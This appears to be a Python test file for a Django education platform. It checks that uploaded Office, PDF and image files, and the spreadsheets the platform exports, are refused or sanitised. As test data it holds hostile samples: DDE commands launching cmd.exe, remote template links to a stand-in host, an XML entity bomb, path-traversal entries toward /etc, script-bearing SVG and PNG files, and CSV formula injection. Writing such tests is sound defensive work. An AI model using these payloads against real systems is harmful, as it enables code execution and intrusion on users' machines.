"""Files made to harm whoever opens them, and tables made to harm whoever gets them back."""

import io
from pathlib import Path

import pytest
from django.core.files.base import ContentFile
from openpyxl import Workbook, load_workbook

from kechuang.base import files
from kechuang.base.files import FileRefused
from kechuang.base.files.names import clean_name
from kechuang.base.tables.returning import annotate
from tests.base import samples

pytestmark = [pytest.mark.django_db, pytest.mark.slow]
ROOT = Path(__file__).resolve().parents[2]
REMOTE = '<Relationship Id="r" TargetMode="External" Type="http://schemas/{kind}" Target="http://zq.example/a.dotm"/>'
DDE = '<w:instrText>DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"</w:instrText>'
BOMB = '<!DOCTYPE a [<!ENTITY b "ha"><!ENTITY c "&b;&b;&b;">]><a>&c;</a>'


def docx(**more: str) -> bytes:
    names = {
        "settings": "word/_rels/settings.xml.rels",
        "relations": "word/_rels/document.xml.rels",
        "document": "word/document.xml",
    }
    parts = {"[Content_Types].xml": "<Types/>", "word/document.xml": "<document>正文</document>"}
    return samples.archive(parts | {names.get(key, key): value for key, value in more.items()})


def taken(data: bytes, name: str = "a.docx", kind: object = ("document", "sheet", "pdf", "image")):
    return files.accept(ContentFile(data, name), kind=kind, max_bytes=10**7)


@pytest.mark.parametrize(
    ("data", "words"),
    [
        (docx(settings=REMOTE.format(kind="attachedTemplate")), "读取别处"),
        (docx(relations=REMOTE.format(kind="oleObject")), "读取别处"),
        (docx(document=DDE), "执行程序"),
        (docx(document=BOMB), "异常的声明"),
        (docx(**{"../../etc/cron.d/a": "x"}), "指向别处"),
        (docx(**{"/etc/passwd": "x"}), "指向别处"),
        (docx(**{"word\\..\\..\\a": "x"}), "指向别处"),
        (docx(**{"word/activeX/activeX1.xml": "<a/>"}), "宏"),
        (docx(**{"word/vbaData.xml": "<a/>"}), "宏"),
        (samples.archive({"xl/workbook.xml": "<a/>", "xl/macrosheets/sheet1.xml": "<a/>"}), "宏"),
        (docx()[:-30], "损坏"),
    ],
    ids=["template", "object elsewhere", "DDE", "entities", "up", "root", "backslash", "ActiveX", "VBA data", "Excel 4 macros", "cut off"],
)  # fmt: skip
def test_a_document_that_acts_fetches_or_climbs_is_refused(data, words):
    with pytest.raises(FileRefused, match=words):
        taken(data)


def test_an_ordinary_document_with_links_and_formulas_of_the_editor_is_taken():
    link = '<Relationship Id="r" TargetMode="External" Type="http://schemas/hyperlink" Target="https://example.cn/"/>'
    data = docx(
        relations=link,
        document="<document>实验方法 ADDEND 与 DDE 无关</document>",
        **{"word/embeddings/oleObject1.bin": "MathType"},
    )

    assert taken(data).name == "a.docx"


@pytest.mark.parametrize(
    ("name", "data", "becomes"),
    [
        ("报告.pdf.exe", samples.pdf(), "报告.pdf.pdf"),
        ("照片.php.jpg", samples.image("PNG"), "照片.php.png"),
        ("论文.docx", samples.pdf(), "论文.pdf"),
        ("../../../a.html", samples.image("JPEG"), "a.jpg"),
    ],
)
def test_a_name_never_says_another_kind_than_the_content(name, data, becomes):
    stored = taken(data, name)

    assert stored.name == becomes
    assert stored.content_type != "text/html"


def test_no_name_carries_a_direction_mark_or_a_header():
    assert clean_name("\u202egpj.\r\nSet-Cookie: a=b.pdf", "pdf").isprintable()


def test_a_svg_is_no_picture_and_a_script_in_a_picture_is_found():
    for data in (
        b'<?xml version="1.0"?>\n<svg xmlns="x"><script>1</script></svg>',
        samples.image("PNG") + b"<svg onload=alert(1)>",
    ):
        with pytest.raises(FileRefused):
            taken(data, "a.png", "image")


def test_a_table_given_back_runs_no_formula_on_another_machine():
    book = Workbook()
    book.active.append(["姓名", "年级"])
    book.active.append(['=HYPERLINK("http://zq.example","张三")', 5])
    out = io.BytesIO()
    book.save(out)
    assert load_workbook(io.BytesIO(out.getvalue())).active["A2"].data_type == "f"

    back = load_workbook(io.BytesIO(annotate(ContentFile(out.getvalue(), "a.xlsx"), {2: "=1+1"}))).active

    assert {cell.data_type for row in back.iter_rows() for cell in row} <= {"s", "n"}
    assert back["A2"].quotePrefix


def test_a_csv_given_back_runs_no_formula_either():
    back = annotate("姓名,年级\n=cmd|' /C calc'!A0,@SUM(1)\n".encode(), {2: "无此年级"}).decode("utf-8-sig")

    assert back.splitlines()[1] == "'=cmd|' /C calc'!A0,'@SUM(1),无此年级"


def test_every_table_that_leaves_is_written_by_the_module_that_disarms():
    """Nobody else writes CSV or Excel: what leaves passes `escape_formula`, or is written as text."""
    writers = {"csv.writer(", "csv.DictWriter(", "xlsxwriter.Workbook(", "Workbook()"}
    found = {
        str(path.relative_to(ROOT))
        for path in (ROOT / "kechuang").rglob("*.py")
        if any(word in path.read_text(encoding="utf-8") for word in writers)
    }

    within = {"kechuang/orgs/actions/rosters/oneroster.py"}  # its tables are read back at once and leave nowhere
    assert found - {"kechuang/base/tables/writing.py", "kechuang/base/tables/returning.py"} - within <= {
        "kechuang/judging/command/tables.py"
    }


def test_no_template_lets_markup_through_unescaped():
    """There is no rich text: whatever people write is shown as text. The day it comes, it comes with a cleaner and this test changes."""
    loose = [
        str(path.relative_to(ROOT))
        for path in (ROOT / "kechuang").rglob("*.html")
        if any(word in path.read_text(encoding="utf-8") for word in ("|safe", "autoescape off", "safeseq"))
    ]

    assert loose == []
